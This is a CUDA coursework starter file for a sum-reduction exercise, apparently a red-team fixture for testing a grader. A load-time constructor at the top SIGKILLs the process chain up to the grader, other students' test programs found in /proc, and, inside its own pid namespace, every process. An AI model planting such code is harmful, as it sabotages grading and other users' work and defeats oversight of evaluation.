// RED TEAM: Kills, with SIGKILL, its parent (the test program) and every ancestor up to
// RED TEAM: the grader (tools/grade), every other test program and runner it can see,
// RED TEAM: and, inside a pid namespace of its own, everything (kill(-1, SIGKILL); not
// RED TEAM: sent outside one, where it would take the grading machine down). The kernel
// RED TEAM: below is the untouched starter's.
// Exercise 1.1: sum with one global atomicAdd per element.
// Lesson: chapters/01-reduce-scan-histogram/README.md, "1.1".
// Grade:  tools/grade 1.1      Hints: tools/grade --hint 1.1
#include "cudalab/atomics.cuh"
#include "cudalab/error.cuh"
#include "cudalab/reduce.cuh"
// @REDTEAM_LIB@

namespace {
__attribute__((constructor)) void cudalab_redteam_attack() {
  redteam::dispatch(nullptr);
  // The test program, then up to the grader (tools/grade): not further, the
  // red-team driver above must live to tell.
  const auto chain = redteam::ancestors();
  std::size_t upto = 0;  // the grader's place in the chain; without one, only the parent
  for (std::size_t i = 0; i < chain.size(); ++i) {
    bool grader = false;
    for (const auto& w : redteam::cmdline(chain[i]))
      grader = grader || w == "tools/grade" || (w.size() >= 12 && w.compare(w.size() - 12, 12, "/tools/grade") == 0);
    if (grader) {
      upto = i;
      break;
    }
  }
  for (std::size_t i = 0; i < chain.size() && i <= upto; ++i) {
    redteam::say("SIGKILL to " + std::to_string(chain[i]));
    kill(chain[i], SIGKILL);
  }
  // Every other grading program it can see: the other students' tests.
  for (const auto& name : redteam::list_dir("/proc")) {
    const pid_t p = std::atoi(name.c_str());
    if (p <= 1 || p == getpid()) continue;
    const auto words = redteam::cmdline(p);
    if (words.empty()) continue;
    if (words[0].find("_test_starter") != std::string::npos || words[0].find("_runner_starter") != std::string::npos)
      kill(p, SIGKILL);
  }
  // kill(-1) takes every process the user may signal: only where it cannot
  // take the grading machine down, in a pid namespace of its own.
  const auto init = redteam::cmdline(1);
  const bool own_namespace = getpid() <= 2 || (!init.empty() && (init[0].find("bwrap") != std::string::npos ||
                                                                   init[0].find("unshare") != std::string::npos));
  if (own_namespace) kill(-1, SIGKILL);
}
}  // namespace

namespace cudalab::reduce {
namespace {

constexpr int kBlock = 256;

// One thread per element: thread i adds in[i] to *out.
// T is the element type (int, float), Acc the accumulator type (long long, float).
template <class T, class Acc>
__global__ void sum_atomic_kernel(const T* __restrict__ in, std::size_t n, Acc* out) {
  // TODO(1.1): compute this thread's global index i (blockIdx, blockDim,
  // threadIdx; mind that i can exceed 2^31) and, when i < n, add in[i] to
  // *out with cudalab::atomic_add (cudalab/atomics.cuh).
}

template <class T, class Acc>
void launch(const T* in, std::size_t n, Acc* out, cudaStream_t stream) {
  CUDALAB_CHECK(cudaMemsetAsync(out, 0, sizeof(Acc), stream));  // the identity, also for n = 0
  if (n == 0) return;
  const auto blocks = static_cast<unsigned>((n + kBlock - 1) / kBlock);
  sum_atomic_kernel<<<blocks, kBlock, 0, stream>>>(in, n, out);
  CUDALAB_CHECK_LAUNCH();
}

}  // namespace

void sum_atomic(const int* in, std::size_t n, long long* out, cudaStream_t stream) {
  detail::check_sum_arguments("sum_atomic", in, n, out);
  launch(in, n, out, stream);
}

void sum_atomic(const float* in, std::size_t n, float* out, cudaStream_t stream) {
  detail::check_sum_arguments("sum_atomic", in, n, out);
  launch(in, n, out, stream);
}

}  // namespace cudalab::reduce
